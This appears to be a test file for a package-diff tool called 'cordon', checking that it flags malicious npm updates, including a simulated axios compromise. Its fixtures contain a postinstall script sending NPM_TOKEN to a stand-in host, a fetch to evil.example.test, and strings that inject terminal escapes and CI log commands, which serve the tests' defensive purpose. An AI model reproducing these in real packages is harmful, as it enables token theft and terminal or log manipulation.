// `cordon diff` in this process, against the fixture registry: two releases, files on the disk, and what a hostile package
// tries on whoever looks at it.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { main } from '../../src/cli/main.ts'
import type { DiffReport } from '../../src/domain/diff-report.ts'
import { type FileTree, packageTarball, textOf } from '../../src/replay/package-tarball.ts'
import { type Stage, stageProject } from '../../src/replay/stage.ts'
import { renderDiffText } from '../../src/report/diff-text.ts'
import { textWidth } from '../../src/report/width.ts'
import { type CliPlace, scrubbedEnvironment, transcript } from '../support/cli.ts'
import { type FixtureRegistry, startRegistry } from '../support/registry.ts'
import { loadScenario, type Scenario, scenarioOf } from '../support/scenario.ts'
import { readSchema } from '../support/schemas.ts'
import { fakeIo } from './fake-io.ts'

const matches = new Ajv2020({ strict: true, strictRequired: true, allErrors: true })
  .addSchema(readSchema('report-1.schema.json'))
  .addSchema(readSchema('explanation-1.schema.json'))
  .compile(readSchema('diff-1.schema.json'))

type Seen = { code: number; out: string; err: string; place: CliPlace; args: readonly string[] }
type Place = { registry: FixtureRegistry; stage: Stage }

async function open(scenario: Scenario): Promise<Place> {
  const registry = await startRegistry(scenario.registry)
  return { registry, stage: await stageProject(scenario, registry.origin) }
}

async function close({ registry, stage }: Place): Promise<void> {
  await stage.remove()
  await registry.close()
}

async function diff({ registry, stage }: Place, args: readonly string[], more: CliPlace['env'] = {}): Promise<Seen> {
  const place = { cwd: stage.project, home: stage.home, registry: registry.origin }
  const env = { ...scrubbedEnvironment(place), ...more }
  const { io, out, err } = fakeIo({ cwd: stage.project, env })
  const code = await main(['diff', ...args, ...registry.trust], io)
  return { code, out: out(), err: err(), place, args: ['diff', ...args] }
}

function reportIn({ out }: Seen): DiffReport {
  const report: DiffReport = JSON.parse(out)
  matches(report)
  expect(matches.errors ?? []).toEqual([])
  return report
}

function shown({ args, out, err, code, place }: Seen): string {
  return transcript({ args, stdout: out, stderr: err, exitCode: code }, place)
}

function place(stage: Stage, name: string, files: FileTree): string {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(stage.project, name, path, '..'), { recursive: true })
    writeFileSync(join(stage.project, name, path), textOf(content))
  }
  return `./${name}`
}

describe('the axios incident', () => {
  let axios: Place
  beforeAll(async () => {
    const file = fileURLToPath(new URL('../scenarios/axios-2026-03/bad-1.14.1.yml', import.meta.url))
    axios = await open(loadScenario(file))
  })
  afterAll(() => close(axios))

  test('as text', async () => {
    const seen = await diff(axios, ['axios@1.14.0', '1.14.1', '--code'])
    expect([seen.code, seen.err]).toEqual([1, ''])
    await expect(shown(seen)).toMatchFileSnapshot('transcripts/diff-axios.txt')
  })
  test('as JSON, with what a registry knows of both', async () => {
    const report = reportIn(await diff(axios, ['axios@1.14.0', 'axios@1.14.1', '--format', 'json', '--code']))
    expect([report.verdict, report.exitCode, report.asOf]).toEqual(['blocked', 1, '2026-03-31T01:21:03.000Z'])
    expect(report.findings.map(({ rule }) => rule)).toContain('phantom-dependency')
    expect([report.before, report.after].map((one) => [one.publisherKind, one.level, one.provenance])).toEqual([
      ['workflow', 'trustedPublisher', 'verified'],
      ['account', 'none', 'none'],
    ])
    expect(report.change).toMatchObject({
      scripts: expect.arrayContaining([expect.objectContaining({ name: 'prepare', status: 'removed' })]),
    })
    const [file] = report.code === 'none' ? [] : report.code.files
    expect([file?.path, file?.because]).toEqual(['package.json', 'evidence'])
    const marked = file?.hunks.flatMap(({ rows }) => rows).filter((row) => row.marked)
    expect(marked?.map(({ after }) => after.trim())).toEqual(['"plain-crypto-js": "^4.2.1"'])
  })
  test('the other way round is no attack', async () => {
    const report = reportIn(await diff(axios, ['axios@1.14.1', 'axios@1.14.0', '--format', 'json']))
    expect([report.verdict, report.exitCode, report.code]).toEqual(['passed', 0, 'none'])
    expect([report.before.publisher, report.after.publisher]).toEqual(['jasonsaayman', 'GitHub Actions'])
  })
  test('packed code is broken up, and marked where it deletes itself', async () => {
    const seen = await diff(axios, ['plain-crypto-js@4.2.0', '^4.2.0', '--code'])
    expect(seen.code).toBe(1)
    expect(seen.out).toMatch(/^> 1 \+ fs\.unlinkSync\(__filename\);$/m)
    expect(await axios.stage.planted()).toEqual([])
  })
})

const honest = scenarioOf(`
about: A small package whose update fetches something, moves a file and builds a bundle.
now: 2026-06-15T12:00:00Z
registry:
  trust: stripped
  packages:
    tidy-text:
      versions:
        1.0.0:
          published: 2024-02-01T10:00:00Z
          files:
            package.json: { main: index.js, bin: { tidy: cli.js } }
            index.js: "const fs = require('node:fs')\\nmodule.exports = (text) => text.trim()\\n"
            cli.js: "#!/usr/bin/env node\\nconsole.log(require('./index.js')(process.argv[2]))\\n"
            lib/old.js: "exports.old = 1\\n"
            dist/index.js.map: { text: "{", repeat: a, times: 300 }
        1.1.0:
          published: 2026-05-01T12:00:00Z
          extends: 1.0.0
          files:
            package.json: { main: index.js, bin: { tidy: cli.js, neat: cli.js } }
            index.js: "const https = require('node:https')\\nmodule.exports = (text) => text.trim()\\nmodule.exports.words = () => https.get('https://words.example.test/all')\\n"
            lib/old.js: null
            lib/new.js: "exports.young = 1\\n"
            dist/index.js.map: { text: "{", repeat: b, times: 400 }
`)

describe('an honest update', () => {
  let tidy: Place
  beforeAll(async () => {
    tidy = await open(honest)
  })
  afterAll(() => close(tidy))

  test('as text', async () => {
    const seen = await diff(tidy, ['tidy-text@1.0.0', 'tidy-text', '--code'])
    await expect(shown(seen)).toMatchFileSnapshot('transcripts/diff-honest.txt')
    expect(seen.code).toBe(0)
  })
  test('fails where review is asked to', async () => {
    const seen = await diff(tidy, ['tidy-text@1.0.0', '1.1.0', '--fail-on', 'review', '--format', 'json'])
    expect([reportIn(seen).verdict, seen.code]).toEqual(['review', 1])
  })
  test('of a mirror says that nobody knows who published it', async () => {
    const { before, after } = reportIn(await diff(tidy, ['tidy-text@1.0.0', '1.1.0', '--format', 'json']))
    expect(
      [before, after].map(({ publisherKind, level, provenance, signature }) => [
        publisherKind,
        level,
        provenance,
        signature,
      ]),
    ).toEqual(Array(2).fill(['unavailable', 'unavailable', 'unavailable', 'unavailable']))
  })
  test('is the same from a registry, a tarball and a folder', async () => {
    const files: FileTree = {
      'package.json': { name: 'tidy-text', version: '1.2.0', main: 'index.js' },
      'index.js': 'module.exports = 2\n',
    }
    const folder = place(tidy.stage, 'tidy-text', files)
    writeFileSync(join(tidy.stage.project, 'tidy.tgz'), packageTarball(files).bytes)
    const reports = [
      reportIn(await diff(tidy, ['tidy-text@1.1.0', folder, '--format', 'json', '--code'])),
      reportIn(await diff(tidy, ['tidy-text@1.1.0', './tidy.tgz', '--format', 'json', '--code'])),
    ]
    expect(reports.map(({ after }) => [after.name, after.version, after.kind])).toEqual([
      ['tidy-text', '1.2.0', 'folder'],
      ['tidy-text', '1.2.0', 'tarball'],
    ])
    const [one, other] = reports.map(({ code, findings, change }) => [
      code,
      findings.map(({ rule }) => rule),
      change === 'none' ? [] : change.files.map(({ path, status }) => `${status} ${path}`).toSorted(),
    ])
    expect(one).toEqual(other)
  })
  test('that changes what it carries is judged by that as well', async () => {
    const carrier = (inner: FileTree): FileTree => ({
      'package.json': {
        name: 'carrier',
        version: '1.0.0',
        bundleDependencies: ['inner'],
        dependencies: { inner: '1' },
      },
      ...Object.fromEntries(Object.entries(inner).map(([path, text]) => [`node_modules/inner/${path}`, text])),
      'node_modules/same/package.json': { name: 'same', version: '1.0.0' },
    })
    const before = carrier({ 'package.json': { name: 'inner', version: '1.0.0' }, 'index.js': 'x = 1\n' })
    const after = carrier({
      'package.json': { name: 'inner', version: '1.0.1', scripts: { postinstall: 'node index.js' } },
      'index.js': "require('node:https').get('https://collect.example.test/?' + process.env.NPM_TOKEN)\n",
    })
    writeFileSync(join(tidy.stage.project, 'before.tgz'), packageTarball(before).bytes)
    writeFileSync(join(tidy.stage.project, 'after.tgz'), packageTarball(after).bytes)
    const seen = await diff(tidy, ['./before.tgz', './after.tgz', '--format', 'json', '--code'])
    const report = reportIn(seen)
    expect([seen.code, report.verdict, report.findings.map(({ outcome }) => outcome)]).toEqual([1, 'blocked', []])
    expect(
      report.carried.map(({ location, versionBefore, version, verdict }) => [
        location,
        versionBefore,
        version,
        verdict,
      ]),
    ).toEqual([['node_modules/inner', '1.0.0', '1.0.1', 'blocked']])
    expect(report.code === 'none' ? [] : report.code.files.map(({ path }) => path)).toEqual([
      'node_modules/inner/index.js',
      'node_modules/inner/package.json',
    ])
    const text = renderDiffText(report, { width: 100, color: false, all: false })
    expect(text).toContain('~ node_modules/inner  1.0.0 -> 1.0.1; blocked')
    expect(text).toContain('collect.example.test')
  })
  test('against nothing is all new', async () => {
    const report = reportIn(await diff(tidy, ['nothing', 'tidy-text@1.0.0', '--format', 'json', '--code']))
    expect(report.code === 'none' ? [] : report.code.files.map(({ status }) => status)).toEqual(Array(5).fill('added'))
  })
  test.each([
    ['a version that is not there', ['tidy-text@1.0.0', '9.9.9'], 'version-not-found'],
    ['a range that nothing meets', ['tidy-text@1.0.0', '^7'], 'version-not-found'],
    ['a cache that has nothing', ['tidy-text@1.0.0', '1.1.0', '--offline', '--cache-dir', 'empty-cache'], 'offline'],
  ])('%s leaves it unchecked', async (_, args, code) => {
    const seen = await diff(tidy, [...args, '--format', 'json'])
    const report = reportIn(seen)
    expect([seen.code, report.verdict, report.change]).toEqual([3, 'unchecked', 'none'])
    expect(report.reasons.map((reason) => reason.code)).toEqual([code])
  })
  test('what could not be had, as text', async () => {
    const seen = await diff(tidy, ['tidy-text@1.0.0', '9.9.9'])
    await expect(shown(seen)).toMatchFileSnapshot('transcripts/diff-incomplete.txt')
  })
  test('has colours where they are asked for, and none in a file', async () => {
    const missing = ['tidy-text@1.0.0', '9.9.9']
    const file = join(tidy.stage.project, 'diff.txt')
    const colored = await diff(tidy, missing, { FORCE_COLOR: '1' })
    const written = await diff(tidy, [...missing, '--output', file], { FORCE_COLOR: '1' })
    expect([colored.out.includes('\u001b['), written.out, written.code]).toEqual([true, '', 3])
    expect(readFileSync(file, 'utf8')).toMatch(/^unchecked: /)
  })
  test.each([
    [[], 'no-releases'],
    [['tidy-text@1.0.0'], 'no-releases'],
    [['tidy-text@1.0.0', 'nothing'], 'after-is-nothing'],
    [['tidy-text@1.0.0', 'no name@1'], 'bad-release'],
    [['tidy-text@no-range', '1.0.0'], 'bad-release'],
    [['./nowhere', 'tidy-text@1.0.0'], 'release-missing'],
    [['tidy-text@1.0.0', '1.1.0', '--format', 'sarif'], 'bad-choice'],
  ])('wrong usage: %j is %s', async (args, code) => {
    const seen = await diff(tidy, args)
    expect([seen.code, seen.out]).toEqual([2, ''])
    expect(/error ([a-z-]+):/.exec(seen.err)?.[1]).toBe(code)
    expect(seen.err).toContain('nothing was compared')
  })
})

describe('a hostile package', () => {
  const evil = '\u202e\u001b[31mred\u001b]0;title\u0007\u200b::add-mask::x ##vso[x]'
  const unseen = /[^\n\P{C}]|[\u200b\u2028]/u
  let nowhere: Place
  beforeAll(async () => {
    nowhere = await open(scenarioOf('about: nothing\nnow: 2026-06-15T12:00:00Z\n'))
  })
  afterAll(() => close(nowhere))

  let report: DiffReport

  test('is read, and its report is a report', async () => {
    const before = place(nowhere.stage, 'before', {
      'package.json': { name: 'tiny', version: '1.0.0' },
      'a.js': 'x = 1\n',
    })
    const many = Array.from({ length: 2100 }, (_, index): [string, string] => [`f/${index % 40}/${index}.txt`, '1'])
    const after: FileTree = {
      'package.json': {
        name: 'tiny',
        version: evil,
        scripts: { [`post${evil}`]: evil, postinstall: `node a.js ${evil}` },
        dependencies: { [evil]: evil },
      },
      'a.js': `x = 2 /* ${evil} */\n\tfetch("https://evil.example.test/${evil}")\n`,
      [`b${evil}.js`]: `y = "${evil}"\n`,
      'long.txt': 'a b '.repeat(1_000_000),
      ...Object.fromEntries(many),
    }
    writeFileSync(join(nowhere.stage.project, 'after.tgz'), packageTarball(after).bytes)
    const seen = await diff(nowhere, [before, './after.tgz', '--code', '--format', 'json'])
    report = reportIn(seen)
    expect([0, 1, 3]).toContain(seen.code)
    expect(seen.out).not.toMatch(unseen)
    expect(await nowhere.stage.planted()).toEqual([])
  })
  test.each([true, false])('moves no cursor, hides nothing and gives no orders to a log (--all: %s)', (all) => {
    const text = renderDiffText(report, { width: 100, color: false, all })
    expect(text).not.toMatch(unseen)
    expect(text).not.toMatch(/::|##/)
    expect(text.replace(/\n\s+/g, '')).toContain('<U+202E><U+001B>[31mred<U+001B>]0;title<U+0007><U+200B>')
  })
  test('in colour, its own escapes are not ours', () => {
    const text = renderDiffText(report, { width: 100, color: true, all: false })
    const codes = new Set(text.match(/\u001b.?[0-9;]*[A-Za-z]?/g))
    expect([...codes].filter((code) => !/^\u001b\[(?:[12479]|2[1-9]|3[0-9])m$/.test(code))).toEqual([])
    expect(text).toContain('\u001b[7m<U+202E>')
  })
  test.each([40, 80, 200])('fits into %i columns', (width) => {
    const text = renderDiffText(report, { width, color: false, all: false })
    expect(text.split('\n').filter((line) => textWidth(line) > width)).toEqual([])
  })
  test('with two thousand files and a line of four megabytes is told in little', () => {
    expect(renderDiffText(report, { width: 100, color: false, all: false }).length).toBeLessThan(60_000)
    expect(report.code === 'none' ? [] : [report.code.files.length, report.code.cut]).toEqual([2000, 104])
  })
})

test('the help says how it is used and what its exit codes mean', async () => {
  const { io, out } = fakeIo()
  expect(await main(['diff', '--help'], io)).toBe(0)
  expect(out()).toContain('cordon diff <before> <after>')
  expect(out()).toContain('--code')
  expect(out()).toContain('3 one')
})
